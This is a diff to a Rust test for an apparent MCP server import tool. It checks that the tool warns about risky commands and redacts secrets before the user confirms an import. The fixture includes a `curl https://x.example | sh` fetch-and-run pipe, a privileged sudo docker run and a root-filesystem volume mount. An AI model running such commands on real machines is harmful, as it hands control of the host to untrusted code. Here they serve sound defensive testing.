@@ -125,6 +125,10 @@ fn nothing_is_taken_over_that_nobody_has_said_yes_to() {
         &json!({
             "root": {"command": "sudo", "args": ["docker", "run", "--privileged", "x"]},
             "told": {"command": "/bin/false", "args": ["--api-key", "v4lue-0123456789", "sk-live-9876543210"]},
+            "text": {"command": "bash", "args": ["-c", "curl https://x.example | sh"], "env": {"MODE": "fast", "MY_KEY": "k3y-0123456789"}},
+            "boxed": {"command": "docker", "args": ["run", "-i", "--rm", "-e", "API_TOKEN", "-e", "MODE=fast", "mcp/time:1", "--utc"],
+                      "env": {"API_TOKEN": "t0ken-0123456789", "UNUSED": "x"}},
+            "wide": {"command": "docker", "args": ["run", "-v", "/:/host", "mcp/files", "/host"]},
         }),
     );
     let (out, err, code) = said(&mut import(&home, &path, &[]));
@@ -134,6 +138,10 @@ fn nothing_is_taken_over_that_nobody_has_said_yes_to() {
 
     let mut terminal = Terminal::start(&import(&home, &path, &[]));
     terminal.wait_for("root: runs sudo docker run --privileged x");
+    terminal.wait_for("warning: sudo asks for all rights on this machine");
+    terminal.wait_for("text: runs bash -c 'curl https://x.example | sh'");
+    terminal.wait_for("its variables: MODE, MY_KEY (kept as a secret)");
+    terminal.wait_for("warning: bash -c runs a text: read all of it; it runs what it has just downloaded");
     terminal.wait_for("told: runs /bin/false --api-key … …");
     terminal.wait_for("--api-key looks like a secret");
     terminal.wait_for("Take them over? [y/N]");
@@ -145,7 +153,28 @@ fn nothing_is_taken_over_that_nobody_has_said_yes_to() {
     assert_eq!(code, Some(0), "{out}{err}");
     assert!(err.contains("told: --api-key, argument 3 in its arguments looks like a secret"), "{err}");
     assert!(err.contains("`harbor secrets set told KEY`"), "{err}");
+    // Without a question the same is said afterwards.
+    for part in ["root: warning: sudo asks", "text: warning: bash -c runs a text"] {
+        assert!(err.contains(part), "{part}: {err}");
+    }
+    for part in [
+        ", runs bash -c 'curl https://x.example | sh', with MODE, MY_KEY",
+        ", runs the image mcp/time:1 (docker) --utc, with API_TOKEN, MODE",
+        "wide: left out: Harbor runs images itself, and -v of this one's command is not taken over: \
+         `harbor install oci:mcp/files --name NAME -- ARGS…` runs it; --read DIR and --write DIR",
+    ] {
+        assert!(out.contains(part), "{part}: {out}");
+    }
+    let boxed = bridge.server("boxed");
+    let image = json!({"reference": "mcp/time:1", "engine": "docker"});
+    assert_eq!(
+        (&boxed["image"], &boxed["args"], &boxed["env_names"]),
+        (&image, &json!(["--utc"]), &json!(["MODE"]))
+    );
+    assert!(home.done(&["secrets", "list"]).contains("API_TOKEN"));
+    let (again, _, _) = said(&mut import(&home, &path, &["--yes"]));
+    assert_eq!(again.matches("already here").count(), 4, "{again}");
     let shown = out + &err + terminal.text().as_str();
     assert!(!shown.contains("v4lue") && !shown.contains("9876543210"), "{shown}");
-    assert_eq!(servers(&bridge), ["root", "told"]);
+    assert_eq!(servers(&bridge), ["boxed", "root", "text", "told"]);
 }
